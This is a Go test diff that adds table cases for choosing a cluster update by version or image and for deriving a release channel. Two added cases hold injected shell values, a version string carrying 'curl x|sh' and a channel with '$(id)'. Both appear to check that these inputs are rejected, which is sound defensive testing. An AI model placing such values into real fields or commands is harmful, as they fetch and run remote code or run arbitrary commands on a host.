@@ -85,6 +85,7 @@ func TestAsked(t *testing.T) {
 		{"its image, too", desires(configv1.Update{Version: "4.21.3", Image: theirs}), Desired, "4.21.3"},
 		{"another image under that version", desires(configv1.Update{Version: "4.21.3", Image: own}), Desired, own},
 		{"an image under a version that is not offered", desires(configv1.Update{Version: "4.22.1", Image: own}), Desired, "4.22.1"},
+		{"an image under a version that a shell would run", desires(configv1.Update{Version: "4.21.3;curl x|sh", Image: own}), Desired, own},
 		{"an image alone", desires(configv1.Update{Image: own}), Desired, own},
 	} {
 		c, err := Find(tt.by, tt.asked)
@@ -113,6 +114,7 @@ func TestChannel(t *testing.T) {
 		{"eus-4.20", "4.21.3", "stable-4.21"},
 		{"eus-4.22", "4.23.1", "stable-4.23"},
 		{"", "4.21.3", "stable-4.21"},
+		{"$(id)-4.21", "4.21.3", "stable-4.21"},
 	} {
 		v := &configv1.ClusterVersion{Spec: configv1.ClusterVersionSpec{Channel: tt.follows}}
 		if got := channelOf(v, tt.release); got != tt.want {
